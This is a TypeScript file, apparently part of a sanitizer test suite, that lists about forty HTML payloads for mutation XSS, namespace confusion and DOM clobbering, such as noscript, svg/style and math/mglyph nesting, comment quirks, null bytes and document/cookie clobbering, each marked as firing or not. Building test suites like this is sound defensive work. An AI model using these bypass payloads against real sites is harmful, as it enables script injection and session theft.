import { type Line, notice, type Payload } from './payload.js'

const img = '<img src=x onerror=§run>'

// Markup that is harmless to one parser and a script to another, or becomes one when it is written and read again:
// the bypasses that sanitizers have had.
const lines: readonly Line[] = [
  ['opened', 'mutation: noscript in an attribute', `<noscript><p title="</noscript>${img}">`],
  ['opened', 'mutation: style in a drawing after a paragraph', `<svg></p><style><a id="</style>${img}">`],
  ['no', 'mutation: style in a drawing', `<svg><style><img title="</style>${img}">`],
  ['no', 'mutation: style and a comment in a drawing', `<svg><style><!--</style>${img}-->`],
  [
    'no',
    'mutation: formula, table, glyph',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§run&gt;">',
  ],
  ['no', 'mutation: form in a form', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=§run>'],
  [
    'no',
    'mutation: formula, table, glyph, drawing',
    '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=§run src=1>">',
  ],
  [
    'opened',
    'mutation: formula with a page',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=§run>"></annotation-xml></math>',
  ],
  ['no', 'mutation: character data in a title', `<svg><title><![CDATA[</title>${img}]]></title></svg>`],
  ['opened', 'mutation: character data in a page', `<![CDATA[>${img}]]>`],
  ['opened', 'mutation: description in a drawing', `<svg><desc><noscript><p title="</noscript>${img}"></desc></svg>`],
  [
    'opened',
    'mutation: foreign object',
    `<svg><foreignObject><math><mi><style><img title="</style>${img}"></foreignObject></svg>`,
  ],
  ['opened', 'mutation: foreign object with a page', `<svg><foreignObject>${img}</foreignObject></svg>`],
  [
    'no',
    'mutation: choice with a template',
    `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`,
  ],
  ['no', 'mutation: template with a style', `<template><style></template>${img}</style>`],
  ['opened', 'mutation: text field with a title', `<textarea><title></textarea>${img}`],
  ['opened', 'mutation: title with an attribute', `<title><p id="</title>${img}">`],
  ['opened', 'mutation: example', `<xmp><p title="</xmp>${img}">`],
  ['opened', 'mutation: frame with words', `<iframe><p title="</iframe>${img}">`],
  ['opened', 'mutation: noembed', `<noembed><p title="</noembed>${img}">`],
  ['opened', 'mutation: noframes', `<noframes><p title="</noframes>${img}">`],
  ['opened', 'mutation: style in a style', `<style><style/>${img}</style>${img}`],
  ['no', 'mutation: plain text', `<plaintext>${img}`],
  ['opened', 'mutation: comment that is short', `<!-->${img}-->`],
  ['opened', 'mutation: comment that is shorter', `<!--->${img}-->`],
  ['opened', 'mutation: comment with an exclamation mark', `<!-- --!>${img}-->`],
  ['no', 'mutation: comment in a comment', `<!-- <!-- -- >${img} -->`],
  ['opened', 'mutation: table and link', `<table><a href="x">${img}<tr><td><a>`],
  ['opened', 'mutation: nested tables', `<table><tr><td><table><b><tr></b><td>${img}</table>`],
  ['opened', 'mutation: nested links', `<a><b><a>${img}</b></a>`],
  ['opened', 'mutation: paragraph in a button', `<button><p><button>${img}</p>`],
  ['opened', 'mutation: deeper than parsers go', `${'<div>'.repeat(600)}<svg><style></style></svg>${img}`],
  [
    'no',
    'mutation: a drawing deeper than parsers go',
    `${'<div>'.repeat(505)}<svg><desc><svg><style><a title="</style>${img}">`,
  ],
  ['no', 'mutation: backtick', '<img src="x` `<script>§run</script>"` `>'],
  ['opened', 'mutation: attribute without quotes', '<img alt=`a c` src=x onerror=§run>'],
  ['no', 'mutation: element with a null', '<im\0g src=x onerror=§run>'],
  ['no', 'mutation: handler with a null', '<img src=x oner\0ror=§run>'],
  ['no', 'mutation: processing instruction of a style sheet', '<?xml-stylesheet href="§url"?>'],
  ['no', 'clobbering: document', '<form id=document><input name=cookie><input name=body></form>'],
  ['no', 'clobbering: attributes', '<form><input name=attributes><input name=parentNode><input name=nodeName></form>'],
  ['no', 'clobbering: a name of this site', '<a id=searchSettings href="§url"></a><img name=getElementById>'],
  ['no', 'clobbering: prototypes', '<p __proto__=x constructor=x hasownproperty=x>a</p>'],
]

/** Mutation XSS, confusion of namespaces, clobbering. */
export const mutations: readonly Payload[] = lines.map(([fires, name, source]) => ({
  name,
  fires,
  file: 'notice.html',
  source: notice(source),
}))
